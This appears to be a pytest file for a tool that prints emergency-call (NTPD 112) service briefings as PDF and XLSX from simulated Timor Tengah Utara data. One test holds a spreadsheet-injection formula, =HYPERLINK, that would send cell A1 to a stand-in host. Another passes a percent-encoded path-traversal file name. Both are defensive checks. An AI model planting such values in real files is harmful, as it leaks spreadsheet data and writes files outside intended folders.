"""The briefing printed (issue 9): the A4 PDF, its maps and charts, the XLSX and ``python -m ntpd_map briefing``.

Fed TTU's published May-September 2025 figures (``simulate --reported ttu-2025``), the PDF's text carries
exactly 4,428 calls, 167 genuine, 144 resolved, 23 not followed up and each agency's row, and the XLSX's
tables equal the recap behind ``/api/recap``.
"""

from __future__ import annotations

import dataclasses
import io
import json
import os
import re
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from ntpd_map.briefing import Change, Period, build
from ntpd_map.ingest.simulate import REPORTED, load_scenario

pypdf = pytest.importorskip("pypdf")
openpyxl = pytest.importorskip("openpyxl")

ROOT = Path(__file__).resolve().parents[2]
TTU_PERIOD = Period.parse("2025-05-01..2025-09-30")
PRODUCED = int(datetime(2025, 10, 6, 1, 0, tzinfo=UTC).timestamp())  # 09:00 WITA


@pytest.fixture(scope="module")
def ttu_dir(tmp_path_factory: pytest.TempPathFactory, data_dir: Path) -> Path:
    """A data dir for TTU: the session's built boundaries and locator (so nothing is rebuilt) and a fresh
    SQLite store."""
    path = tmp_path_factory.mktemp("ttu-print")
    (path / "boundaries").mkdir()
    return path


@pytest.fixture(scope="module")
def ttu_rt(runtime, ttu_dir: Path):
    """A runtime whose store holds TTU's published May-September 2025 totals (simulated details)."""
    from ntpd_map.config import Settings
    from ntpd_map.runtime import Runtime

    rt = Runtime(Settings.from_env(NTPD_DATA_DIR=str(ttu_dir), NTPD_REGION="53.03", NTPD_SIMULATE="off",
                                   NTPD_DATABASE_URL=f"sqlite:///{ttu_dir / 'ttu.sqlite'}"))
    rt.__dict__["region"] = runtime.region
    rt.__dict__["locator"] = runtime.locator
    load_scenario(rt.store, rt.region, rt.locator, reported=REPORTED["ttu-2025"])
    return rt


@pytest.fixture(scope="module")
def briefing(ttu_rt):
    return build(ttu_rt, TTU_PERIOD, now=PRODUCED)


@pytest.fixture(scope="module")
def pdf_id(briefing, ttu_rt) -> bytes:
    from ntpd_map.briefing import pdf

    return pdf.render(briefing, ttu_rt.region, "id")


@pytest.fixture(scope="module")
def reader(pdf_id: bytes):
    return pypdf.PdfReader(io.BytesIO(pdf_id))


def page_text(page) -> str:
    """A page's text with runs of white space as one space (table cells come out one per line)."""
    return re.sub(r"\s+", " ", page.extract_text())


@pytest.fixture(scope="module")
def text(reader) -> str:
    return " ".join(page_text(p) for p in reader.pages)


# --- the PDF --------------------------------------------------------------------------------------------------

def test_the_pdf_is_a4_numbered_and_described(reader, pdf_id: bytes) -> None:
    from ntpd_map.briefing.pdf import page_count

    n = len(reader.pages)
    assert n >= 5 and page_count(pdf_id) == n
    for page in reader.pages:
        assert (round(float(page.mediabox.width)), round(float(page.mediabox.height))) == (595, 842)
    first, last = page_text(reader.pages[0]), page_text(reader.pages[-1])
    assert f"Halaman 1 dari {n}" in first
    assert f"Halaman {n} dari {n}" in last
    for i, page in enumerate(reader.pages, start=1):  # every page: its number, the period, the SIMULASI band
        words = page_text(page)
        assert f"Halaman {i} dari {n}" in words
        assert "Periode 1 Mei 2025 - 30 September 2025" in words
        assert "SIMULASI" in words
    meta = reader.metadata
    assert meta.title == "Evaluasi Layanan NTPD 112 Kabupaten Timor Tengah Utara - 1 Mei 2025 - 30 September 2025"
    assert meta.author == "NTPD 112 Kabupaten Timor Tengah Utara"
    assert "1 Mei 2025 - 30 September 2025" in meta.subject


def test_the_pdf_text_carries_ttus_figures_exactly(text: str, briefing) -> None:
    assert "Evaluasi Layanan NTPD 112 Kabupaten Timor Tengah Utara" in text
    assert ("Periode: 1 Mei 2025 - 30 September 2025, dibanding 29 November 2024 - 30 April 2025" in text)
    assert "Dibuat 6 Oktober 2025 09:00 WITA" in text
    assert "SIMULASI: angka dari data contoh buatan komputer, bukan laporan nyata." in text
    # the headline rows: this period, the one before (empty: the store starts on 1 May 2025), the change
    for label, figure in [("Panggilan masuk", "4.428"), ("Darurat (benar)", "167"), ("Selesai ditangani", "144"),
                          ("Tidak ditindaklanjuti", "23")]:
        assert f"{label} {figure} 0 +{figure} (baru)" in text
    assert "Masih dalam proses 0 0 tetap" in text
    # each agency's row: received, resolved, not followed up as in the recap behind /api/recap
    by_agency = briefing.recap["genuine"]["by_agency"]
    assert len(by_agency) == 6
    for name, a in by_agency.items():
        assert f"{name} {a['total']} {a['resolved']} {a['not_followed_up']} {a['open']} " in text, name
    assert "Jumlah 167 144 23 0 " in text
    # every kecamatan is in the table, and the top-10 tables carry their reasons
    for name in briefing.kecamatan_names.values():
        assert name in text
    for reason in [*briefing.top_socialisation()["reason"], *briefing.top_bts()["reason"]]:
        assert reason.split(";")[0] in text
    assert "Catatan Dinas" in text and "Ruang untuk catatan tangan" in text


def test_the_maps_and_charts_are_images_in_the_pdf(reader) -> None:
    images = [image for page in reader.pages for image in page.images]
    assert len(images) >= 4  # genuine per 10k, socialisation, BTS, the weekly charts
    for image in images:
        assert image.image.width >= 1000  # print resolution: 200 dpi over most of the text width


def test_the_pdf_in_english(briefing, ttu_rt) -> None:
    from ntpd_map.briefing import pdf

    reader = pypdf.PdfReader(io.BytesIO(pdf.render(briefing, ttu_rt.region, "en")))
    n = len(reader.pages)
    words = " ".join(page_text(p) for p in reader.pages)
    assert f"Page 1 of {n}" in page_text(reader.pages[0]) and f"Page {n} of {n}" in page_text(reader.pages[-1])
    assert "NTPD 112 service evaluation, Kabupaten Timor Tengah Utara" in words
    assert "Period: 1 May 2025 - 30 September 2025, against 29 November 2024 - 30 April 2025" in words
    assert "Calls 4,428 0 +4,428 (new)" in words
    assert "Resolved 144 0 +144 (new)" in words
    assert "SIMULATION: figures from computer-generated sample data" in words
    assert "Total 167 144 23 0 " in words


def test_notes_print_as_plain_text(briefing, ttu_rt) -> None:
    """The Dinas's notes are user text: markup characters print as themselves, paragraphs stay paragraphs."""
    from ntpd_map.briefing import pdf

    notes = "Rapat <b>evaluasi</b> & tindak lanjut: 5 < 7.\n\nSosialisasi di Biboki Tan Pah — Juli."
    reader = pypdf.PdfReader(io.BytesIO(pdf.render(dataclasses.replace(briefing, notes=notes), ttu_rt.region)))
    last = page_text(reader.pages[-1])
    assert "Rapat <b>evaluasi</b> & tindak lanjut: 5 < 7." in last
    assert "Sosialisasi di Biboki Tan Pah — Juli." in last
    assert "Ruang untuk catatan tangan" not in last


def test_change_text() -> None:
    from ntpd_map.briefing.pdf import change_text

    assert change_text(Change(4428, 0)) == "+4.428 (baru)"
    assert change_text(Change(0, 0)) == change_text(Change(12, 12)) == "tetap"
    assert change_text(Change(120, 100)) == "+20 (+20,0%)"
    assert change_text(Change(97, 100), "en") == "-3 (-3.0%)"
    assert change_text(Change(0, 5)) == "-5 (-100,0%)"


def test_a_month_prints_with_its_dates_and_changes(ttu_rt) -> None:
    """A month against the month before: changes as number and percent, the period named with its dates."""
    from ntpd_map.briefing import pdf

    b = build(ttu_rt, Period.parse("2025-07"), now=PRODUCED)
    reader = pypdf.PdfReader(io.BytesIO(pdf.render(b, ttu_rt.region)))
    first = page_text(reader.pages[0])
    assert "Periode: Juli 2025 (1 Juli 2025 - 31 Juli 2025), dibanding Juni 2025 (1 Juni 2025 - 30 Juni 2025)" in first
    calls = b.headline["calls"]
    assert f"Panggilan masuk {pdf.number(calls.value, 'id')} {pdf.number(calls.previous, 'id')} " \
           f"{pdf.change_text(calls)}" in first


# --- the maps -------------------------------------------------------------------------------------------------

def test_maps_are_print_resolution_pngs_and_take_missing_values(runtime) -> None:
    from PIL import Image

    from ntpd_map.briefing import maps

    region = runtime.region
    kode = region.kecamatan["kode"]
    values = pd.Series(np.linspace(0, 20, len(kode)), index=kode.to_numpy())
    values.iloc[:3] = np.nan  # no population: grey and hatched, with "Tidak ada data" in the legend
    png = maps.genuine_map(region, values, width_in=5.0, max_height_in=5.0)
    image = Image.open(io.BytesIO(png))
    assert image.format == "PNG" and image.size[0] == 5 * maps.DPI and image.size[1] <= 5 * maps.DPI
    grey = np.array([int(maps.NO_DATA[i:i + 2], 16) for i in (1, 3, 5)])
    pixels = np.asarray(image.convert("RGB")).reshape(-1, 3)
    assert (np.abs(pixels - grey).sum(axis=1) < 6).sum() > 500  # the kecamatan without a value are grey
    ranks = pd.Series([1, 2], index=region.desa["kode"].iloc[[0, 50]].to_numpy())
    assert Image.open(io.BytesIO(maps.bts_map(region, ranks, "en"))).format == "PNG"


def test_classes() -> None:
    from ntpd_map.briefing.maps import classes

    assert classes(np.array([np.nan, np.nan])) == []
    assert classes(np.array([3.0, 3.0])) == [3.0, 3.1]
    breaks = classes(np.array([0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 20.5, np.nan]))
    assert breaks[0] == 0 and breaks[-1] == 20.5 and breaks == sorted(set(breaks)) and len(breaks) == 6


# --- the XLSX -------------------------------------------------------------------------------------------------

def sheet_rows(ws) -> tuple[list[str], list[dict]]:
    rows = list(ws.iter_rows(values_only=True))
    return list(rows[0]), [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


@pytest.fixture(scope="module")
def book(briefing):
    from ntpd_map.briefing import xlsx

    return openpyxl.load_workbook(io.BytesIO(xlsx.render(briefing)))


def test_the_xlsx_tables_equal_the_recap(book, briefing) -> None:
    from ntpd_map.i18n import t

    assert book.sheetnames == ["Ringkasan", "Instansi", "Kecamatan", "Mingguan", "Sosialisasi", "BTS"]
    recap = briefing.recap
    g = recap["genuine"]

    summary = {r[0]: r[1:] for r in book["Ringkasan"].iter_rows(values_only=True) if r[0]}
    assert "SIMULASI: angka dari data contoh buatan komputer, bukan laporan nyata." in summary
    assert summary["Periode"][0] == "1 Mei 2025 - 30 September 2025"
    assert summary["Dibuat"][0] == "6 Oktober 2025 09:00 WITA"
    headline = {t(f"brief_h_{k}", "id"): v for k, v in [
        ("calls", recap["calls"]["total"]), ("genuine", g["total"]), ("resolved", g["resolved"]),
        ("not_followed_up", g["not_followed_up"]), ("open", g["open"]),
        ("prank", recap["calls"]["by_call_type"]["prank"])]}
    for label, value in headline.items():
        assert summary[label][:3] == (value, 0, value)  # this period, the one before, the change
    assert summary["Panggilan masuk"][0] == 4428 and summary["Darurat (benar)"][0] == 167
    assert summary["Selesai ditangani"][0] == 144 and summary["Tidak ditindaklanjuti"][0] == 23

    header, rows = sheet_rows(book["Instansi"])
    assert header[:4] == ["Instansi", "Diterima", "Selesai", "Tidak ditindaklanjuti"]
    *agencies, total = rows
    assert {r["Instansi"]: (r["Diterima"], r["Selesai"], r["Tidak ditindaklanjuti"], r["Dalam proses"])
            for r in agencies} == {name: (a["total"], a["resolved"], a["not_followed_up"], a["open"])
                                   for name, a in g["by_agency"].items()}
    assert {r["Instansi"]: (r["Menit ke pengiriman (median)"], r["Menit sampai tiba (p90)"]) for r in agencies} == {
        name: (a["dispatch"]["median"], a["arrival"]["p90"]) for name, a in g["by_agency"].items()}
    assert (total["Instansi"], total["Diterima"], total["Selesai"], total["Tidak ditindaklanjuti"]) == (
        "Jumlah", 167, 144, 23)

    header, rows = sheet_rows(book["Kecamatan"])
    *kecamatan, total = rows
    assert total["Kecamatan"] == "Jumlah"
    assert {r["Kode"] for r in kecamatan} == set(briefing.kecamatan_names)  # every kecamatan
    by_kode = {r["Kode"]: r for r in kecamatan}
    for kode, counts in recap["kecamatan"].items():
        row = by_kode[kode]
        assert (row["Panggilan"], row["Darurat"], row["Iseng"], row["Kosong/terputus"], row["Selesai"],
                row["Tidak ditindaklanjuti"]) == (counts["calls"], counts["genuine"], counts["prank"],
                                                  counts["ghost_dropped"], counts["resolved"],
                                                  counts["not_followed_up"])
    assert sum(r["Darurat"] for r in kecamatan) == total["Darurat"] == g["total"] - g["without_location"]
    assert all(isinstance(r["Panggilan"], int) for r in kecamatan)  # numbers, not text

    header, weeks = sheet_rows(book["Mingguan"])
    for column, expected in [("Panggilan", recap["calls"]["total"]), ("Darurat", g["total"]),
                             ("Selesai", g["resolved"]), ("Tidak ditindaklanjuti", g["not_followed_up"]),
                             ("Iseng", recap["calls"]["by_call_type"]["prank"])]:
        assert sum(w[column] for w in weeks) == expected, column
    assert isinstance(weeks[0]["Dari"], datetime)  # dates, not text

    header, top = sheet_rows(book["Sosialisasi"])
    model = briefing.top_socialisation()
    assert [(r["Peringkat"], r["Kode"], r["Alasan"]) for r in top] == list(
        zip(model["rank"], model["kode"], model["reason"], strict=True))
    header, top = sheet_rows(book["BTS"])
    model = briefing.top_bts()
    assert [(r["Peringkat"], r["Kode"], r["Desa/Kelurahan"]) for r in top] == list(
        zip(model["rank"], model["kode"], model["desa"], strict=True))


def test_formula_looking_text_stays_text(briefing) -> None:
    """An agency named like a formula and notes starting with "=" reach Excel as text, never as formulas."""
    from ntpd_map.briefing import xlsx

    evil = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
    by_agency = dict(briefing.recap["genuine"]["by_agency"])
    by_agency[evil] = by_agency.pop("Polres TTU")
    recap = {**briefing.recap, "genuine": {**briefing.recap["genuine"], "by_agency": by_agency}}
    tricked = dataclasses.replace(briefing, recap=recap, notes="=1+1\n@SUM(A1:A2)\n-2+3")
    book = openpyxl.load_workbook(io.BytesIO(xlsx.render(tricked)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    found = [c for c in cells if c.value == evil]
    assert len(found) == 1 and found[0].data_type == "s" and found[0].quotePrefix
    for note in ("=1+1", "@SUM(A1:A2)", "-2+3"):
        cell = next(c for c in cells if c.value == note)
        assert cell.data_type == "s" and cell.quotePrefix


# --- the command ----------------------------------------------------------------------------------------------

def test_the_command_writes_the_pdf_and_the_xlsx_headless(ttu_rt, ttu_dir: Path, data_dir: Path,
                                                            tmp_path: Path) -> None:
    for cached in (data_dir / "boundaries").glob("*53.03*"):  # the session's built region and locator index
        (ttu_dir / "boundaries" / cached.name).write_bytes(cached.read_bytes())
    env = {**os.environ, "NTPD_DATA_DIR": str(ttu_dir), "NTPD_REGION": "53.03", "NTPD_SIMULATE": "off",
           "NTPD_DATABASE_URL": f"sqlite:///{ttu_dir / 'ttu.sqlite'}", "NTPD_ALLOW_DOWNLOAD": "0",
           "NTPD_LANG": "id"}

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "ntpd_map", "briefing", *args], cwd=ROOT, env=env,
                              capture_output=True, text=True, timeout=240)

    proc = cli("--from", "2025-05-01", "--to", "2025-09-30", "--out", str(tmp_path / "out" / "laporan.pdf"))
    assert proc.returncode == 0, proc.stderr
    summary = json.loads(proc.stdout)
    written = Path(summary["written"])
    assert written == tmp_path / "out" / "laporan_SIMULASI.pdf"  # simulated data says so in its name
    assert summary["bytes"] == written.stat().st_size and summary["period"] == "2025-05-01..2025-09-30"
    reader = pypdf.PdfReader(written)
    assert summary["pages"] == len(reader.pages)
    assert "Panggilan masuk 4.428" in page_text(reader.pages[0])

    # a name that looks like a path when decoded is written as named, in the folder named (as export does)
    proc = cli("--period", "2025-Q3", "--out", str(tmp_path / "..%2f..%2flaporan.xlsx"), "--lang", "en")
    assert proc.returncode == 0, proc.stderr
    summary = json.loads(proc.stdout)
    assert (summary["period"], summary["label"], summary["pages"]) == ("2025-Q3", "Quarter III 2025", None)
    assert Path(summary["written"]) == tmp_path / "..%2f..%2flaporan_SIMULASI.xlsx"
    book = openpyxl.load_workbook(tmp_path / "..%2f..%2flaporan_SIMULASI.xlsx")
    assert book.sheetnames[0] == "Summary"

    for args, message in [(["--period", "2025-05", "--out", str(tmp_path / "x.txt")], "name the file .pdf or .xlsx"),
                          (["--out", str(tmp_path / "x.pdf")], "--from and --to"),
                          (["--period", "2025-05", "--from", "2025-05-01", "--out", str(tmp_path / "x.pdf")],
                           "not both"),
                          (["--period", "2025-13", "--out", str(tmp_path / "x.pdf")], "'2025-13': month must be"),
                          (["--period", "Mei", "--out", str(tmp_path / "x.pdf")], "2025-Q2 (a quarter)")]:
        proc = cli(*args)
        assert proc.returncode == 2 and message in proc.stderr, (args, proc.stderr)
    assert not list(tmp_path.glob("x*"))
